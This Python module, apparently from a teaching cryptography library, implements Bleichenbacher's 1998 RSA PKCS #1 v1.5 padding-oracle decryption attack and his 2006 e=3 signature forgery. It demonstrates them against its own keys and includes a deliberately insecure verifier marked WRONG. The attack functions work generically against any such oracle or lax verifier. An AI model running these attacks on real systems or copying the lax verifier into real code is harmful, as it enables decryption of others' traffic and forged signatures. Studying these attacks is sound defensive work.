"""Bleichenbacher's two attacks on PKCS #1 v1.5: the padding oracle (1998) and the e = 3 forgery (2006).

* **1998, encryption.** A server that decrypts RSAES-PKCS1-v1_5 and lets anyone learn whether the
  result was well padded (an error message, an alert, a timing) decrypts any ciphertext for the
  attacker, one adaptive question at a time. The remedy is OAEP (RFC 8017 §7.1) and one error for
  every failure; ``ciphers.rsa.pkcs1_v15`` keeps v1.5 only as legacy, with a single
  :class:`~ciphers.errors.DecryptionError`, but a yes/no answer is still an oracle.
* **2006, signatures.** A verifier that *parses* the encoded message (00 01 FF..FF 00 DigestInfo
  hash) and ignores what follows the hash accepts an integer cube root as a signature when e = 3.
  The remedy is what ``ciphers.rsa.pkcs1_v15.verify`` does: rebuild the expected encoding and
  compare all of it (RFC 8017 §8.2.2 step 3); PSS is better still.

The "victims" below are closures over our own keys and code: :func:`pkcs1_v15_oracle` (our real
decryption, reporting only success), :func:`prefix_oracle` (a laxer check of the first two bytes)
and :func:`lenient_verify`, a **WRONG** verifier written only to be attacked.
"""

from __future__ import annotations

import hmac
from collections.abc import Callable
from dataclasses import dataclass

from ciphers.errors import DecryptionError
from ciphers.numtheory import invert, iroot, powmod
from ciphers.rng import RNG, SYSTEM, randrange
from ciphers.rsa import pkcs1_v15
from ciphers.rsa.core import i2osp, os2ip, rsadp
from ciphers.rsa.hashes import DEFAULT_HASH, hash_algorithm
from ciphers.rsa.keys import RSAPrivateKey

Oracle = Callable[[int], bool]
"""A victim that says whether the decryption of a ciphertext integer is PKCS #1 v1.5 conforming."""

Interval = tuple[int, int]
"""A closed interval [a, b] of candidate plaintexts."""


def _ceil_div(a: int, b: int) -> int:
    return -(-a // b)


# --- the victims --------------------------------------------------------------------------------


def pkcs1_v15_oracle(key: RSAPrivateKey) -> Oracle:
    """The victim: our RSAES-PKCS1-v1_5 decryption, revealing only whether it raised.

    Conforming means everything ``eme_pkcs1_v15_decode`` checks: 00 02, at least eight non-zero
    padding octets, then a zero separator (RFC 8017 §7.2.2 step 3).
    """
    k = key.size_bytes

    def oracle(c: int) -> bool:
        try:
            pkcs1_v15.decrypt(key, i2osp(c, k))
        except DecryptionError:
            return False
        return True

    return oracle


def prefix_oracle(key: RSAPrivateKey) -> Oracle:
    """A laxer victim that reveals whether the decryption starts with 00 02, nothing more.

    This is the most permissive oracle ("TTT" in Bardou et al., "Efficient padding oracle attacks
    on cryptographic hardware", CRYPTO 2012); it needs fewer queries than the strict one.
    """
    low = 2 << (8 * (key.size_bytes - 2))

    def oracle(c: int) -> bool:
        return low <= rsadp(key, c, blinding=False) < low + low // 2

    return oracle


# --- 1998: the padding-oracle attack -------------------------------------------------------------


@dataclass(frozen=True)
class BleichenbacherResult:
    """The recovered encoded message EM (as an integer), the oracle queries and the rounds of steps 2-3."""

    plaintext: int
    queries: int
    iterations: int

    def message(self, k: int) -> bytes:
        """The message inside the recovered EM of ``k`` octets."""
        return pkcs1_v15.eme_pkcs1_v15_decode(i2osp(self.plaintext, k))


def _union(intervals: list[Interval]) -> list[Interval]:
    merged: list[Interval] = []
    for a, b in sorted(intervals):
        if merged and a <= merged[-1][1] + 1:
            merged[-1] = (merged[-1][0], max(b, merged[-1][1]))
        else:
            merged.append((a, b))
    return merged


def narrow(intervals: list[Interval], s: int, n: int, big_b: int) -> list[Interval]:
    """Step 3: keep the m of each [a, b] for which m s mod n = m s - r n lies in [2B, 3B - 1]."""
    found = []
    for a, b in intervals:
        for r in range(_ceil_div(a * s - 3 * big_b + 1, n), (b * s - 2 * big_b) // n + 1):
            low = max(a, _ceil_div(2 * big_b + r * n, s))
            high = min(b, (3 * big_b - 1 + r * n) // s)
            if low <= high:
                found.append((low, high))
    return _union(found)


def bleichenbacher_1998(
    n: int, e: int, c: int, oracle: Oracle, *, rng: RNG = SYSTEM, max_queries: int = 1 << 24
) -> BleichenbacherResult:
    """Decrypt a PKCS #1 v1.5 ciphertext c with a padding oracle (Bleichenbacher, "Chosen ciphertext
    attacks against protocols based on the RSA encryption standard PKCS #1", CRYPTO 1998).

    With B = 2^(8(k - 2)), a yes from the oracle on c s^e says 2B <= m s mod n < 3B. Step 1 blinds c
    until it conforms (skipped when c already does: s0 = 1); step 2a searches the first s from
    n / 3B; 2b (several intervals left) keeps searching; 2c (one interval [a, b]) picks s so that
    m s mod n falls in [2B, 3B) about half the time, halving the interval; step 3 intersects; step 4
    stops at one value, m = a s0^-1 mod n. ``RuntimeError`` after ``max_queries``.
    """
    k = (n.bit_length() + 7) // 8
    big_b = 1 << (8 * (k - 2))
    queries = 0

    def conforming(candidate: int) -> bool:
        nonlocal queries
        if queries >= max_queries:
            raise RuntimeError(f"Bleichenbacher's attack gave up after {max_queries} oracle queries")
        queries += 1
        return oracle(candidate)

    s0, c0 = 1, c  # step 1
    while not conforming(c0):
        s0 = randrange(2, n, rng)
        c0 = c * powmod(s0, e, n) % n

    def try_s(s: int) -> bool:
        return conforming(c0 * powmod(s, e, n) % n)

    intervals = [(2 * big_b, 3 * big_b - 1)]
    s = _ceil_div(n, 3 * big_b)  # step 2a
    while not try_s(s):
        s += 1
    iterations = 1
    while True:
        intervals = narrow(intervals, s, n, big_b)  # step 3
        if not intervals:
            raise RuntimeError("no candidate left: the oracle is not a PKCS #1 v1.5 oracle for this key")
        if len(intervals) == 1 and intervals[0][0] == intervals[0][1]:  # step 4
            return BleichenbacherResult(intervals[0][0] * invert(s0, n) % n, queries, iterations)
        iterations += 1
        if len(intervals) > 1:  # step 2b
            s += 1
            while not try_s(s):
                s += 1
            continue
        a, b = intervals[0]  # step 2c
        r = _ceil_div(2 * (b * s - 2 * big_b), n)
        while True:
            low, high = _ceil_div(2 * big_b + r * n, b), _ceil_div(3 * big_b + r * n, a)
            hit = next((t for t in range(low, high) if try_s(t)), None)
            if hit is not None:
                s = hit
                break
            r += 1


# --- 2006: forging e = 3 signatures for a lax verifier ------------------------------------------


def lenient_verify(
    n: int, e: int, message: bytes, signature: bytes, *, hash_name: str = DEFAULT_HASH
) -> bool:
    """**WRONG, on purpose: the victim of** :func:`bleichenbacher_2006_forgery`. Never verify like this.

    It parses EM = 00 01 FF..FF 00 DigestInfo H and checks each part, but never checks that H ends
    the block, so whatever follows the hash is accepted. Real verifiers that parsed this loosely
    accepted forged signatures: OpenSSL before 0.9.8c (CVE-2006-4339), and python-rsa before 3.3
    (CVE-2016-1494, a variant hiding the garbage inside the padding).
    """
    k = (n.bit_length() + 7) // 8
    s = os2ip(signature)
    if len(signature) != k or s >= n:
        return False
    em = i2osp(powmod(s, e, n), k)
    if em[:2] != b"\x00\x01":
        return False
    i = 2
    while i < k and em[i] == 0xFF:
        i += 1
    if i == 2 or i == k or em[i] != 0:
        return False
    hash_ = hash_algorithm(hash_name)
    prefix = hash_.digest_info_prefix
    body = em[i + 1 :]
    if body[: len(prefix)] != prefix:
        return False
    digest = body[len(prefix) : len(prefix) + hash_.digest_size]
    return hmac.compare_digest(digest, hash_.digest(message))  # ...and the rest of body is ignored


def bleichenbacher_2006_forgery(
    n: int, message: bytes, *, e: int = 3, hash_name: str = DEFAULT_HASH, ff_count: int = 8
) -> bytes:
    """A signature of ``message`` that :func:`lenient_verify` accepts, made without the private key.

    Put the prefix P = 00 01 FF..FF 00 DigestInfo H(m) at the top of a k-octet block whose g low
    bits are free, and take s = floor((P 2^g + 2^g - 1)^(1/e)). Then s^e starts with P as long as
    2^g exceeds the gap between consecutive e-th powers (about e s^(e-1)), and s^e < n, so no
    reduction modulo n happens. For e = 3 and a 2048-bit key, P may be up to about 85 octets
    (Bleichenbacher, rump session of CRYPTO 2006, as written up by H. Finney, "Bleichenbacher's
    RSA signature forgery based on implementation error", IETF OpenPGP list, August 2006).
    ``ValueError`` if the key is too short for the prefix.
    """
    k = (n.bit_length() + 7) // 8
    hash_ = hash_algorithm(hash_name)
    prefix = b"\x00\x01" + b"\xff" * ff_count + b"\x00" + hash_.digest_info_prefix + hash_.digest(message)
    free_bits = 8 * (k - len(prefix))
    if free_bits <= 0:
        raise ValueError("the key is too short for this prefix")
    low = os2ip(prefix) << free_bits
    s, _ = iroot(low + (1 << free_bits) - 1, e)
    if s**e < low or s**e >= n:
        raise ValueError("no e-th power below n starts with this prefix: the key is too short for it")
    return i2osp(s, k)
